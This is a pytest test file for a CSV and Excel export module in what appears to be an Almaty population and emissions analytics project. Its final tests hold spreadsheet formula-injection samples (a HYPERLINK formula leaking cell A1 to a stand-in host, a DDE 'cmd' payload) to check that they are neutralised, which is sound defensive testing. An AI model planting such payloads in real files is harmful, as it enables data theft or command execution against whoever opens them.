"""Planner tables: declared columns, CSV writer and XLSX workbook (export.py)."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest
import yaml

from almaty_analytics import export, i18n, io, paths


def population_history() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "year": [2021, 2022],
            "sex": ["total", "total"],
            "persons": [1977258, 2101485],
            "segment": [2, 3],
            "change_persons": [60436.0, None],
        }
    )


def programme_figures() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "domain": ["population"],
            "figure_id": ["population_target_2030"],
            "indicator": ["население Алматы / Алматы халқы"],
            "ref_year": [2030],
            "value": [2.5],
            "unit": ["million persons"],
            "qualifier": ["about"],
            "source": ["001_22452510f78b59ea.txt:1"],
        }
    )


def test_tables_declare_columns_with_unit_and_description_and_a_source():
    for name, spec in export.TABLES.items():
        assert spec.title.strip() and spec.source.strip(), name
        assert "scenario" not in spec.columns, name
        for column, (unit, description) in spec.columns.items():
            assert isinstance(unit, str) and description.strip(), (name, column)


def test_example_frames_match_the_declared_columns():
    assert list(population_history().columns) == list(export.TABLES["data_population_history"].columns)
    assert list(programme_figures().columns) == list(export.TABLES["data_programme_figures"].columns)


# --- write_table refuses frames that differ from the contract ------------------------------


def test_write_table_refuses_an_unknown_table_name(tmp_path):
    with pytest.raises(KeyError, match="table 'data_nonsense' is not declared in export.TABLES"):
        export.write_table(population_history(), "data_nonsense", tmp_path, "default")
    assert list(tmp_path.iterdir()) == []


def test_write_table_refuses_a_missing_column(tmp_path):
    frame = population_history().drop(columns="segment")
    with pytest.raises(ValueError, match=r"table 'data_population_history': columns .* do not match the declared"):
        export.write_table(frame, "data_population_history", tmp_path, "default")
    assert list(tmp_path.iterdir()) == []


def test_write_table_refuses_an_extra_column(tmp_path):
    frame = population_history().assign(area="almaty")
    with pytest.raises(ValueError, match=r"do not match the declared"):
        export.write_table(frame, "data_population_history", tmp_path, "default")
    assert list(tmp_path.iterdir()) == []


def test_write_table_refuses_columns_in_a_different_order(tmp_path):
    frame = population_history()[["sex", "year", "persons", "segment", "change_persons"]]
    with pytest.raises(ValueError, match=r"do not match the declared"):
        export.write_table(frame, "data_population_history", tmp_path, "default")


def test_write_table_refuses_a_frame_that_already_has_a_scenario_column(tmp_path):
    frame = population_history()
    frame.insert(0, "scenario", "default")
    with pytest.raises(ValueError, match=r"do not match the declared"):
        export.write_table(frame, "data_population_history", tmp_path, "default")


def test_write_table_checks_columns_even_when_output_dir_is_empty():
    with pytest.raises(ValueError, match=r"do not match the declared"):
        export.write_table(population_history().drop(columns="sex"), "data_population_history", "", "default")


# --- write_table writes -----------------------------------------------------------------------


def test_write_table_with_empty_output_dir_writes_nothing_and_returns_none(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert export.write_table(population_history(), "data_population_history", "", "default") is None
    assert list(tmp_path.iterdir()) == []


def test_write_table_writes_tables_name_csv_and_returns_its_path(tmp_path):
    path = export.write_table(population_history(), "data_population_history", tmp_path, "default")
    assert path == tmp_path / "tables" / "data_population_history.csv"
    assert path.exists()
    assert [p.name for p in (tmp_path / "tables").iterdir()] == ["data_population_history.csv"]


def test_write_table_accepts_output_dir_as_a_string(tmp_path):
    path = export.write_table(population_history(), "data_population_history", str(tmp_path), "default")
    assert path == tmp_path / "tables" / "data_population_history.csv"


def test_written_csv_has_a_leading_scenario_column_then_the_declared_columns(tmp_path):
    path = export.write_table(population_history(), "data_population_history", tmp_path, "high-growth")
    written = pd.read_csv(path)
    assert list(written.columns) == ["scenario", *export.TABLES["data_population_history"].columns]
    assert written["scenario"].tolist() == ["high-growth", "high-growth"]
    assert written["persons"].tolist() == [1977258, 2101485]
    assert written["change_persons"].isna().tolist() == [False, True]


def test_written_csv_is_utf8_with_a_byte_order_mark_and_non_ascii_text_intact(tmp_path):
    path = export.write_table(programme_figures(), "data_programme_figures", tmp_path, "default")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8 Cyrillic
    text = raw.decode("utf-8-sig")
    assert "население Алматы / Алматы халқы" in text
    assert text.startswith("scenario,domain,figure_id,")
    assert list(pd.read_csv(path).columns)[0] == "scenario"  # pandas skips the BOM


def test_write_table_does_not_modify_the_callers_frame(tmp_path):
    frame = population_history()
    export.write_table(frame, "data_population_history", tmp_path, "default")
    pd.testing.assert_frame_equal(frame, population_history())


def test_write_table_overwrites_a_previous_run_and_leaves_no_temp_file(tmp_path):
    export.write_table(population_history(), "data_population_history", tmp_path, "first")
    path = export.write_table(population_history(), "data_population_history", tmp_path, "second")
    assert set(pd.read_csv(path)["scenario"]) == {"second"}
    assert [p.name for p in (tmp_path / "tables").iterdir()] == ["data_population_history.csv"]


# --- data dictionary and workbook ------------------------------------------------------------


def test_data_dictionary_lists_scenario_declared_and_run_columns_for_each_table():
    names = ["data_population_history", "data_programme_figures"]
    dictionary = export.data_dictionary(names)
    for name in names:
        rows = dictionary[dictionary["table"] == name]
        assert rows["column"].tolist() == ["scenario", *export.TABLES[name].columns, *export.RUN_COLUMNS]
        assert set(rows["source"]) == {export.TABLES[name].source}


def test_data_dictionary_skips_undeclared_tables():
    dictionary = export.data_dictionary(["not_declared"])
    assert dictionary.empty
    assert list(dictionary.columns) == ["table", "column", "unit", "description", "source", "filter_before_sum"]


def iamc_frame(scenarios=("baseline", "programme"), years=(2025, 2026)) -> pd.DataFrame:
    rows = [
        {"model": "almaty-analytics", "emission_scenario": s, "region": "Almaty city", "variable": "Emissions|Air pollutants", "unit": "kt/yr"}
        | {str(y): 100.0 + i for i, y in enumerate(years)}
        for s in scenarios
    ]
    return pd.DataFrame(rows)


def test_an_iamc_table_keeps_only_iamc_columns_and_its_run_facts_go_to_a_meta_file(tmp_path):
    path = export.write_table(iamc_frame(), "emissions_iamc", tmp_path, "default")
    before = path.read_bytes()
    written = export.stamp_table(path, "2026-01-02", "2024-01-31")
    assert written == [path, tmp_path / "tables" / "emissions_iamc_meta.csv"]
    assert path.read_bytes() == before
    assert list(pd.read_csv(path).columns) == [*export.IAMC_COLUMNS, "2025", "2026"]
    meta = pd.read_csv(written[1], encoding="utf-8-sig")
    assert meta.to_dict("records") == [
        {"model": "almaty-analytics", "scenario": f"default|{s}", "data_vintage": "2024-01-31", "run_date": "2026-01-02"} for s in ("baseline", "programme")
    ]


def test_iamc_files_of_two_runs_and_other_iamc_data_concatenate_as_pyam_does(tmp_path):
    """pyam.concat needs the same index dimensions everywhere (model, scenario, region, variable, unit, year): any other
    column would be an extra index dimension (pyam's extra_cols) and make the frames incompatible."""
    frames = []
    for scenario in ("default", "high"):
        path = export.write_table(iamc_frame(years=(2025, 2026)), "emissions_iamc", tmp_path / scenario, scenario)
        export.stamp_table(path, "2026-01-02", "2024-01-31")
        frames.append(pd.read_csv(path, encoding="utf-8-sig"))
    other = pd.DataFrame([{"model": "GAINS", "scenario": "CLE", "region": "Kazakhstan", "variable": "Emissions|NOx", "unit": "kt/yr", "2025": 5.0}])
    long = [f.melt(id_vars=list(export.IAMC_COLUMNS), var_name="year") for f in [*frames, other]]
    assert all(set(f.columns) == {*export.IAMC_COLUMNS, "year", "value"} for f in long)
    together = pd.concat(long, ignore_index=True)
    assert not together.duplicated(list(export.IAMC_COLUMNS) + ["year"]).any()
    assert together[list(export.IAMC_COLUMNS)].notna().all().all() and together["year"].astype(int).between(2025, 2026).all()
    meta = pd.concat(pd.read_csv(tmp_path / s / "tables" / "emissions_iamc_meta.csv", encoding="utf-8-sig") for s in ("default", "high"))
    assert not meta.duplicated(["model", "scenario"]).any()  # pyam's meta index
    assert set(meta["scenario"]) == set(pd.concat(frames)["scenario"])


def test_the_dictionary_describes_the_iamc_file_and_its_meta_file_as_they_are_on_disk():
    dictionary = export.data_dictionary(["emissions_iamc", "emissions_iamc_meta"])
    iamc = dictionary[dictionary["table"] == "emissions_iamc"]
    assert iamc["column"].tolist() == [*export.IAMC_COLUMNS, "<year>"]
    assert "project scenario" in iamc.set_index("column").loc["scenario", "description"]
    meta = dictionary[dictionary["table"] == "emissions_iamc_meta"]
    assert meta["column"].tolist() == ["model", "scenario", "data_vintage", "run_date"]


def test_the_dictionary_says_which_columns_hold_alternatives_that_a_sum_must_not_mix():
    dictionary = export.data_dictionary(list(export.TABLES)).set_index(["table", "column"])["filter_before_sum"]
    assert "current seats" in dictionary["school_seats", "regime"]
    assert "includes city" in dictionary["emissions_by_source", "boundary"]
    assert dictionary["emissions_by_source", "emission_scenario"] and dictionary["population_variants", "variant"]
    assert dictionary["school_seats", "deficit"] == "" and dictionary["population_total", "value"] == ""
    assert "keep total" in dictionary["emissions_by_source", "source"] and "keep total" in dictionary["data_population_history", "sex"]
    for (table, column), rule in dictionary.items():
        assert bool(rule) == (column in export.CASE_COLUMNS or (table, column) in export.TOTAL_ROWS), (table, column)
    assert set(export.TOTAL_ROWS) <= set(dictionary.index)  # every total declared is of a real column


def test_the_data_dictionary_file_lists_every_published_table_but_itself_and_is_no_workbook_sheet(tmp_path):
    out = tmp_path / "run"
    export.write_table(population_history(), "data_population_history", out, "default")
    export.write_table(iamc_frame(), "emissions_iamc", out, "default")
    export.stamp_table(out / "tables" / "emissions_iamc.csv", "2026-01-02", "2024-01-31")
    path = export.write_data_dictionary(out / "tables")
    assert path == out / "tables" / "data_dictionary.csv"
    written = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert list(written.columns) == export.DICTIONARY_COLUMNS
    assert list(dict.fromkeys(written["table"])) == ["data_population_history", "emissions_iamc", "emissions_iamc_meta"]
    assert written[written["table"] == "data_population_history"]["column"].tolist() == [
        "scenario", *export.TABLES["data_population_history"].columns, *export.RUN_COLUMNS
    ]
    book = out / "tables" / "default.xlsx"
    export.write_workbook(out / "tables", book, RUN_INFO, {"data_population_history": RUN_OF_TABLE})
    assert openpyxl.load_workbook(book).sheetnames == ["README", "data_population_history", "emissions_iamc", "emissions_iamc_meta"]


RUN_INFO = {
    "scenario": "default",
    "started": "2024-01-01T00:00:00",
    "parameters": {"base_year": 2022, "horizon": 2035},
    "input_hashes": {"bns_population_1jan.csv": "abc123"},
    "versions": {"pandas": pd.__version__},
}
RUN_OF_TABLE = {"notebook": "00_data_overview", "finished": "2024-01-01T00:01:00", "parameters": {"base_year": 2022, "horizon": 2035, "tfr": 1.83}}


@pytest.fixture
def workbook(tmp_path):
    out = tmp_path / "run"
    export.write_table(population_history(), "data_population_history", out, "default")
    export.write_table(programme_figures(), "data_programme_figures", out, "default")
    path = out / "tables" / "default.xlsx"
    export.write_workbook(out / "tables", path, RUN_INFO, {n: RUN_OF_TABLE for n in ("data_population_history", "data_programme_figures")})
    return path


def test_workbook_has_a_readme_sheet_then_one_sheet_per_csv(workbook):
    assert openpyxl.load_workbook(workbook).sheetnames == ["README", "data_population_history", "data_programme_figures"]


def test_workbook_sheets_hold_the_csv_contents_under_headers_with_units(workbook):
    t = i18n.Text("en")
    for name in ("data_population_history", "data_programme_figures"):
        sheet = pd.read_excel(workbook, sheet_name=name)
        csv = pd.read_csv(workbook.parent / f"{name}.csv")
        assert list(sheet.columns) == [export.header(name, c, t) for c in csv.columns]
        pd.testing.assert_frame_equal(sheet.set_axis(csv.columns, axis=1), csv, check_dtype=False)
    assert export.header("data_population_history", "persons", t) == "persons [persons]"
    assert export.header("population_total", "lo_80", i18n.Text("ru")) == "80%-й интервал, нижняя граница [человек]"


def test_workbook_sheets_have_frozen_headers_filters_and_number_formats(workbook):
    sheet = openpyxl.load_workbook(workbook)["data_population_history"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    headers = [cell.value for cell in sheet[1]]
    persons = sheet.cell(2, headers.index("persons [persons]") + 1)
    assert persons.number_format == "#,##0"
    assert openpyxl.load_workbook(workbook)["README"].freeze_panes == "A2"


def test_a_russian_workbook_has_cyrillic_headers_that_read_back(tmp_path):
    out = tmp_path / "run"
    export.write_table(population_history(), "data_population_history", out, "default")
    path = out / "tables" / "default.xlsx"
    export.write_workbook(out / "tables", path, RUN_INFO, {"data_population_history": RUN_OF_TABLE}, "kk")
    headers = [cell.value for cell in openpyxl.load_workbook(path)["data_population_history"][1]]
    assert headers[:2] == ["сценарий", "жыл"] and "қатар бөлігі" in headers


def test_stamp_table_appends_vintage_and_run_date_and_keeps_every_cell(tmp_path):
    path = export.write_table(programme_figures(), "data_programme_figures", tmp_path, "default")
    before = path.read_text(encoding="utf-8-sig").splitlines()
    export.stamp_table(path, "2026-01-02", "2024-01-31")
    after = path.read_text(encoding="utf-8-sig").splitlines()
    assert [line.rsplit(",", 2)[0] for line in after] == before
    assert after[0].endswith(",data_vintage,run_date") and after[1].endswith(",2024-01-31,2026-01-02")


def test_run_date_follows_source_date_epoch(monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    assert export.run_date() == "2023-11-14"


def test_no_raw_data_was_published_after_the_data_cutoff():
    manifest = yaml.safe_load((paths.raw_dir() / "datapackage.yaml").read_text(encoding="utf-8"))
    for resource in manifest["resources"]:
        published = str(resource.get("published", ""))
        assert published[-10:] <= io.DATA_CUTOFF or len(published) < 10 and published[-4:] <= io.DATA_CUTOFF[:4], resource["name"]


def test_workbook_readme_has_the_data_dictionary_row_of_every_declared_column(workbook):
    readme = pd.read_excel(workbook, sheet_name="README", header=None).fillna("")
    rows = {(r[0], r[1]): (r[2], r[3]) for r in readme.itertuples(index=False) if r[0] in export.TABLES}
    in_workbook = set(pd.read_excel(workbook, sheet_name=None))
    for name, spec in export.TABLES.items():
        if name not in in_workbook:
            continue
        expected = {(name, "scenario"): export.SCENARIO_COLUMN} | {(name, c): v for c, v in spec.columns.items()}
        assert {k: rows.get(k) for k in expected} == expected


def test_workbook_readme_lists_run_info_and_parameters(workbook):
    readme = pd.read_excel(workbook, sheet_name="README", header=None).fillna("").astype(str)
    pairs = set(zip(readme[0], readme[1], strict=False))
    assert ("scenario", "default") in pairs
    assert ("  base_year", "2022") in pairs
    assert ("  horizon", "2035") in pairs
    assert ("  bns_population_1jan.csv", "abc123") in pairs
    assert ("  data_population_history", "00_data_overview, 2024-01-01T00:01:00") in pairs
    assert ("parameters of 00_data_overview (run finished 2024-01-01T00:01:00)", "") in pairs


def test_workbook_readme_stores_numbers_as_numbers(workbook):
    sheet = openpyxl.load_workbook(workbook)["README"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(max_col=2) if row[0].value}
    assert cells["  base_year"].value == 2022 and cells["  base_year"].data_type == "n"
    assert cells["  tfr"].value == 1.83 and cells["  tfr"].data_type == "n"
    assert cells["  bns_population_1jan.csv"].data_type == "s"


def test_readme_rows_give_each_sheet_its_own_run():
    runs = {
        "population_total": {"notebook": "10_population_forecast", "finished": "T2", "parameters": {"tfr": 2.0}},
        "school_seats": {"notebook": "20_school_seat_deficit", "finished": "T1", "parameters": {"tfr": 1.5, "districts": ["medeu", "turksib"]}},
    }
    rows = export.readme_rows({"scenario": "default"}, runs)
    at = rows.index(("parameters of 20_school_seat_deficit (run finished T1)", ""))
    assert rows[at + 1 : at + 3] == [("  tfr", 1.5), ("  districts", "medeu, turksib")]
    assert ("  population_total", "10_population_forecast, T2") in rows


def test_workbook_is_written_without_leaving_a_temp_file(workbook):
    assert sorted(p.name for p in workbook.parent.iterdir()) == [
        "data_population_history.csv",
        "data_programme_figures.csv",
        "default.xlsx",
    ]


def test_workbook_gets_a_sheet_for_an_undeclared_csv_but_no_dictionary_rows(tmp_path):
    tables = tmp_path / "tables"
    tables.mkdir()
    pd.DataFrame({"a": [1, 2]}).to_csv(tables / "extra.csv", index=False)
    path = tmp_path / "book.xlsx"
    export.write_workbook(tables, path, {"scenario": "default"}, {})
    assert openpyxl.load_workbook(path).sheetnames == ["README", "extra"]
    readme = pd.read_excel(path, sheet_name="README", header=None).fillna("")
    assert "extra" not in set(readme[0])


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"])
def test_text_that_starts_like_a_formula_is_neutralised_in_the_csv(tmp_path, text):
    figures = programme_figures().assign(indicator=text)
    export.write_table(figures, "data_programme_figures", tmp_path, "default")
    written = pd.read_csv(tmp_path / "tables" / "data_programme_figures.csv", dtype=str, keep_default_na=False)
    assert written["indicator"].iloc[0] == "'" + text


def test_numbers_and_numeric_text_are_not_neutralised():
    assert export.neutral_text(-48.3) == -48.3
    assert export.neutral_text("-48.3") == "-48.3"
    assert export.neutral_text("plain") == "plain"
    assert export.neutral_text("\rx") == "'\rx"


def test_workbook_stores_formula_like_text_as_text_on_every_sheet(tmp_path):
    out = tmp_path / "run"
    export.write_table(programme_figures().assign(indicator="=1+1"), "data_programme_figures", out, "default")
    path = out / "tables" / "default.xlsx"
    info = RUN_INFO | {"description": "=HYPERLINK(\"http://evil\")"}
    export.write_workbook(out / "tables", path, info, {"data_programme_figures": RUN_OF_TABLE})
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "=1+1" in [c.value for c in book["data_programme_figures"]["D"]]  # as given: a text cell needs no apostrophe
    assert "'=1+1" in pd.read_csv(out / "tables" / "data_programme_figures.csv", encoding=export.CSV_ENCODING)["indicator"].tolist()  # the CSV keeps it


def test_workbook_sheets_print_landscape_one_page_wide_with_the_header_row_repeated(workbook):
    sheet = openpyxl.load_workbook(workbook)["data_population_history"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToHeight == 0  # as many pages down as needed
    assert sheet.page_setup.fitToWidth in (None, 1)  # one page wide: 1 is the file format's default, left out
    assert sheet.print_title_rows.replace("$", "") == "1:1"


def test_workbook_keeps_large_integers_exact_and_empty_cells_empty(tmp_path):
    tables = tmp_path / "tables"
    tables.mkdir()
    pd.DataFrame({"seed": [2**63 - 1, 7], "x": [None, 1.5]}).to_csv(tables / "extra.csv", index=False)
    export.write_workbook(tables, tmp_path / "book.xlsx", {"scenario": "default"}, {})
    sheet = openpyxl.load_workbook(tmp_path / "book.xlsx")["extra"]
    assert [c.value for c in sheet["A"]] == ["seed", str(2**63 - 1), 7]
    assert [c.value for c in sheet["B"]] == ["x", None, 1.5]


def test_text_longer_than_a_cell_holds_is_refused_with_the_sheet_and_cell_named(tmp_path):
    tables = tmp_path / "tables"
    tables.mkdir()
    pd.DataFrame({"note": ["x" * 40_000]}).to_csv(tables / "extra.csv", index=False)
    with pytest.raises(ValueError, match=r"sheet 'extra', row 2, column 1: 40,000 characters"):
        export.write_workbook(tables, tmp_path / "book.xlsx", {"scenario": "default"}, {})
    assert not (tmp_path / "book.xlsx").exists()
